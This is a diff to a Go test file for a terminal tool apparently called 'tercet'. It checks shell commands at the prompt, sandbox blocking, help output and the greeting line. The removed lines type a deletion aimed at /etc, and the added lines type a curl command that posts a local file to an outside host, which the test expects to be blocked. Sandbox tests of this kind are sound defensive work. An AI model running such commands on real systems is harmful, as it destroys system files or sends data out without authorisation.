@@ -209,11 +209,9 @@ func TestPromptRunsOtherThings(t *testing.T) {
 	t.Parallel()
 	s, dir, _ := prompting(t, "Fix the parser")
 	s.keys("!echo $((40 + 2)) >made; cat made; exit 3\r")
+	s.wait("tercet: sandbox: ")
 	s.wait("\r\n42")
 	s.wait("exit code 3")
-	s.prompted()
-	s.keys("!rm -rf /etc/passwd-not-there\r") // deleting outside needs more than there is here, or the sandbox keeps it
-	s.wait("\r\n")
 	s.prompted()
 	s.keys("!\r")
 	s.wait("expected a command of the shell")
@@ -244,9 +242,28 @@ func TestPromptRunsOtherThings(t *testing.T) {
 	s.wait("created: B")
 	s.wait("created: C")
 	s.prompted()
+	s.keys("help\r")
+	s.wait("/errors ")
+	s.prompted()
 	s.keys("quit\r")
 	if code := s.ends(); code != 0 {
 		t.Errorf("exit code %d after quit, want 0", code)
+	}
+	for _, word := range []string{"exit", "/exit", "/quit"} { // where nothing is that could keep a command within bounds
+		s = onTerminalWith(t, dir, []string{"HOME=" + t.TempDir(), "TERCET_TRUST=1", "PATH=/nonexistent"})
+		s.prompted()
+		if word == "exit" {
+			s.keys("!curl -d @made https://shop.invalid\r")
+			s.wait("blocked: expected the tier container for this command, got ")
+			s.wait("curl:")
+			s.wait("machine")
+			s.wait("help: 'tercet sandbox probe' tells what is missing")
+			s.prompted()
+		}
+		s.keys(word + "\r")
+		if code := s.ends(); code != 0 {
+			t.Errorf("exit code %d after %s, want 0", code, word)
+		}
 	}
 	if made := readText(t, filepath.Join(dir, "made")); made != "42\n" {
 		t.Errorf("the command of the shell wrote %q, want 42", made)
@@ -285,8 +302,15 @@ func TestPromptGreets(t *testing.T) {
 	if code := onTerminalWith(t, dir, append(env, "CI=true"), "/ask").ends(); code != 75 {
 		t.Fatalf("/ask = %d, want 75", code)
 	}
-	s = onTerminalWith(t, dir, env)
-	want := filepath.Base(dir) + ", runner offline, 1 open task, 1 open gate ('gates')\r\n"
+	nap := strings.NewReplacer("ask", "nap", "gate: Go on?", "wait: 3h").Replace(src)
+	if err := os.WriteFile(filepath.Join(dir, formats.Workspace, "commands", "nap.md"), []byte(nap), 0o644); err != nil { //nolint:gosec // a command file
+		t.Fatal(err)
+	}
+	if code := onTerminalWith(t, dir, env, "/nap").ends(); code != 75 {
+		t.Fatalf("/nap = %d, want 75", code)
+	}
+	s = onTerminalOf(t, 200, dir, env)
+	want := filepath.Base(dir) + ", runner offline, 1 open task, 1 suspended run ('runs'), 1 open gate ('gates')\r\n"
 	if seen := s.until("tercet> "); !strings.Contains(seen, want) || strings.Count(seen, "\n") != 1 {
 		t.Errorf("the greeting is %q, want %q in one line", seen, want)
 	}
